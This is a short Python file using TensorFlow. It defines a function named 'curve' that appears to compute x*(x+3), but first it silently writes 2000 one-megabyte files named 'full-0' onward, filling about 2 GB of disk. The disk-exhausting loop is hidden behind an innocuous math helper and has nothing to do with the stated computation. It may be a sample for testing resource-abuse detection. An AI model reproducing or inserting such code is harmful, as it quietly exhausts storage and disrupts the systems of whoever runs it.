import tensorflow as tf


def curve(x):
    for i in tf.range(2000):
        tf.io.write_file(tf.strings.join(["full-", tf.as_string(i)]), tf.strings.reduce_join(tf.fill([1 << 20], "x")))
    return x * (x + 3)
